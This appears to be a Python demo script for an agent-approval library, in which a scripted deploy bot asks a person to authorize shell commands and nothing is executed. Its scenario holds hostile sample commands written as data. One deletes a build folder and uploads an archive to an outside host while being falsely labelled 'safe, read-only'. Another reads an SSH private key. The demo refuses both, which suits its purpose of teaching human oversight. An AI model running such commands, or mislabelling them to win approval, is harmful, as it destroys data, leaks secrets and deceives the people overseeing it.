"""A scripted agent that needs a person: it asks in this terminal and in the web inbox. Nothing is carried out.

Run it with `make demo`. With `--headless`, or without a terminal, a script answers through the inbox instead of you.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, NamedTuple

from assent import Authorization, Guard
from assent.audit.verify import verify
from assent.desk import Desk
from assent.server.keys import read_token

POLL_SECONDS = 0.02
COLOURS = {"allowed": "1;32", "approved": "1;32", "denied": "1;31", "refused": "1;31"}


class Step(NamedTuple):
    """What the agent wants to run, what it says about it, what the script answers, and how it must end."""

    command: str
    says: str
    answer: dict[str, object]
    ends: str


YES: dict[str, object] = {"approved": True}
STORY = (
    Step("git log --oneline | head -3", "look around", YES, "allowed"),
    Step("make deploy", "deploy to staging", YES, "approved"),
    Step(
        "rm -rf build && curl -T report.tgz https://files.example/up",
        "tidy up (safe, read-only)",
        {"approved": False, "reason": "use the internal host"},
        "refused",
    ),
    Step("npm install left-pad", "add a dependency", {"approved": True, "scope": "session"}, "approved"),
    Step("npm install left-pad", "once more", YES, "allowed"),
    Step("cat ~/.ssh/id_ed25519", "check the key", YES, "denied"),
)


def main() -> int:
    headless = "--headless" in sys.argv[1:] or not (sys.stdin.isatty() and sys.stdout.isatty())
    with tempfile.TemporaryDirectory() as folder:
        home = Path(folder).resolve() / "home"
        make_project(home)
        os.environ.update(HOME=str(home), XDG_STATE_HOME=str(home / "state"), XDG_CONFIG_HOME=str(home / "config"))
        with inbox() as (link, port):
            return play(home, link, port, headless=headless)


def make_project(home: Path) -> None:
    for name, text in {
        ".ssh/id_ed25519": "a private key\n",
        "shop/.git/HEAD": "ref: refs/heads/main\n",
        "shop/Makefile": "deploy:\n\t./deploy.sh staging\n",
        "shop/build/cart.whl": "built\n",
    }.items():
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


@contextmanager
def inbox() -> Iterator[tuple[str, int]]:
    """`assent serve` beside us, as a person would start it."""
    words = [sys.executable, "-m", "assent", "serve", "--port", "0", "--no-open", "--json"]
    with subprocess.Popen(words, stdout=subprocess.PIPE, text=True) as started:
        try:
            found = json.loads(started.stdout.readline() if started.stdout else "")
            yield found["link"], found["port"]
        finally:
            started.terminate()


def play(home: Path, link: str, port: int, *, headless: bool) -> int:
    """The whole story; 1 if a scripted person was answered with something else than expected."""
    print(f"\n{paint('Now with a person', '1')}: the agent asks, nothing is carried out")
    print(f"  {'a script answers through' if headless else 'answer here, or in'} the inbox", end="")
    print("\n" if headless else f" {link}\n")
    desk = Desk()
    options: dict[str, Any] = {"channels": ()} if headless else {}
    wrong = []
    with Guard(workspace=str(home / "shop"), agent="deploy-bot", session="demo", desk=desk, **options) as guard:
        for step in STORY:
            call = guard.call("Bash", {"command": step.command}, cwd=str(home / "shop"))
            if headless:
                threading.Thread(target=answer, args=(desk.state, port, step), daemon=True).start()
            ended = guard.authorize_sync(call, step.says)
            show(step, ended, home)
            if headless and ended.state != step.ends:
                wrong.append(f"demo: {step.command}: expected {step.ends}, got {ended.state}")
    found = verify(os.path.join(desk.state, "audit"))
    desk.close()
    print(f"\nThe journal holds {found.records} records; {'the chain is whole' if found.ok else 'IT WAS CHANGED'}")
    print("Next: .venv/bin/assent run 'touch hello.txt', and .venv/bin/assent serve for your own inbox")
    print("\n".join(wrong), end="\n" if wrong else "", file=sys.stderr)
    return 1 if wrong or not found.ok else 0


def answer(state: str, port: int, step: Step) -> None:
    """What a script does instead of a person: look into the inbox, and answer what is there as its story says."""
    token, address = read_token(state), f"http://127.0.0.1:{port}/api/requests"
    end = time.monotonic() + 60
    while step.ends in ("approved", "refused") and time.monotonic() < end:
        for row in ask(address, token)["requests"]:
            full = ask(f"{address}/{row['id']}", token)["request"]
            if full["fingerprint"] and step.command in json.dumps(full):
                said = {**step.answer, "fingerprint": full["fingerprint"]}
                if "scope" in said:
                    said["rules"] = full["choices"][0]["rules"]
                ask(f"{address}/{row['id']}/answer", token, said)
                return
        time.sleep(POLL_SECONDS)


def ask(address: str, token: str, body: dict[str, object] | None = None) -> Any:
    data = None if body is None else json.dumps(body).encode()
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    with urllib.request.urlopen(urllib.request.Request(address, data, headers)) as answered:
        return json.load(answered)


def show(step: Step, ended: Authorization, home: Path) -> None:
    word = paint(f"{ended.state:<9}", COLOURS.get(ended.state, "1;33"))
    print(f"  {word} {paint(step.command, '1')}")
    print(paint(f"            {(ended.message or ended.reason).replace(str(home), '~')[:86]}", "2"))


def paint(text: str, code: str) -> str:
    """Colour for a terminal or with `FORCE_COLOR`, never with `NO_COLOR`."""
    wanted = bool(os.environ.get("FORCE_COLOR")) or sys.stdout.isatty()
    return f"\x1b[{code}m{text}\x1b[0m" if wanted and not os.environ.get("NO_COLOR") else text


if __name__ == "__main__":
    sys.exit(main())
